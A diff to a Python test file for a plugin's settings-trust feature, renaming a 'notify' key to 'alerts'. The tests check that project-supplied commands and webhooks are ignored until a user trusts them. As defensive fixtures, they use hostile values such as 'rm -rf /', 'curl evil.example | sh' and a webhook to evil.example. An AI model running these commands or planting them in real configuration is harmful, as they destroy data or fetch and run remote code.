@@ -21,7 +21,7 @@ from victor_autotune_plugin.errors import SettingsError
 
 from .conftest import Sources
 
-EVIL = "extras: {command: rm -rf /}\nnotify: {webhooks: [{url: 'https://evil.example'}]}\n"
+EVIL = "extras: {command: rm -rf /}\nalerts: {webhooks: [{url: 'https://evil.example'}]}\n"
 METADATA = {"extras": {"command": "curl evil.example | sh"}, "mode": "auto"}
 
 
@@ -30,7 +30,7 @@ def acting_keys(monkeypatch: pytest.MonkeyPatch) -> None:
     """Two keys that act, as later versions have them."""
 
     def with_acting(*args: Any) -> dict[str, Kind]:
-        return {**leaves(*args), "extras.command": Acting(Text()), "notify.webhooks": Acting(Anything())}
+        return {**leaves(*args), "extras.command": Acting(Text()), "alerts.webhooks": Acting(Anything())}
 
     for module in (resolver, merge):
         monkeypatch.setattr(module, "leaves", with_acting)
@@ -41,7 +41,7 @@ def counts(found: SettingsResolver, metadata: Mapping[str, object] | None = None
     """What counts for a team of keys that act."""
     own, _ = found._own("w", metadata, None)
     entries = found._entries("w", "t", own)
-    return {key: entry.value for key, entry in entries.items() if key.startswith(("extras", "notify"))}
+    return {key: entry.value for key, entry in entries.items() if key.startswith(("extras", "alerts"))}
 
 
 def trusted(sources: Sources, *metadata: Mapping[str, object]) -> SettingsResolver:
@@ -58,14 +58,14 @@ def test_what_a_project_asks_for_is_ignored_until_trusted(sources: Sources, capl
     assert counts(found) == {}
     assert found.for_team("w", "t").mode == "auto"
     assert [record.getMessage() for record in caplog.records] == [
-        "autotune: extras.command (.victor/autotune.yaml:2), notify.webhooks (.victor/autotune.yaml:3) are ignored "
+        "autotune: extras.command (.victor/autotune.yaml:2), alerts.webhooks (.victor/autotune.yaml:3) are ignored "
         "until you trust them: victor autotune trust"
     ]
     sources.load()
     assert len(caplog.records) == 1
     assert counts(trusted(sources)) == {
         "extras.command": "rm -rf /",
-        "notify.webhooks": [{"url": "https://evil.example"}],
+        "alerts.webhooks": [{"url": "https://evil.example"}],
     }
 
 
@@ -80,15 +80,15 @@ def test_metadata_of_a_workflow_is_ignored_until_trusted(sources: Sources, caplo
 
 
 def test_of_a_workflow_and_a_team_too(sources: Sources) -> None:
-    sources.project_file("workflows: {w: {extras: {command: a}, teams: {t: {notify: {webhooks: b}}}}}")
+    sources.project_file("workflows: {w: {extras: {command: a}, teams: {t: {alerts: {webhooks: b}}}}}")
     found = sources.load()
     assert counts(found) == {}
     assert found.acting is not None
     assert [one.path for one in found.acting.settings] == [
         "workflows.w.extras.command",
-        "workflows.w.teams.t.notify.webhooks",
+        "workflows.w.teams.t.alerts.webhooks",
     ]
-    assert counts(trusted(sources)) == {"extras.command": "a", "notify.webhooks": "b"}
+    assert counts(trusted(sources)) == {"extras.command": "a", "alerts.webhooks": "b"}
 
 
 def test_what_the_user_sets_counts_and_is_not_replaced(sources: Sources) -> None:
@@ -125,7 +125,7 @@ def test_a_user_without_a_home_trusts_nothing(sources: Sources, monkeypatch: pyt
         EVIL.replace("rm -rf /", "0"),
         EVIL + "workflows: {v: {extras: {command: rm -rf /}}}",
         "extras: {command: rm -rf /}",
-        "workflows: {w: {extras: {command: rm -rf /}}}\nnotify: {webhooks: [{url: 'https://evil.example'}]}\n",
+        "workflows: {w: {extras: {command: rm -rf /}}}\nalerts: {webhooks: [{url: 'https://evil.example'}]}\n",
     ],
 )
 def test_any_change_of_what_acts_ends_the_trust(sources: Sources, text: str) -> None:
@@ -161,7 +161,7 @@ def test_a_running_process_notices_trust_and_its_end(sources: Sources, monkeypat
 
 
 def test_a_key_given_twice_within_what_acts_is_wrong(sources: Sources) -> None:
-    sources.project_file("notify: {webhooks: [{url: harmless, url: evil}]}")
+    sources.project_file("alerts: {webhooks: [{url: harmless, url: evil}]}")
     assert "'url' is given twice" in sources.error()
 
 
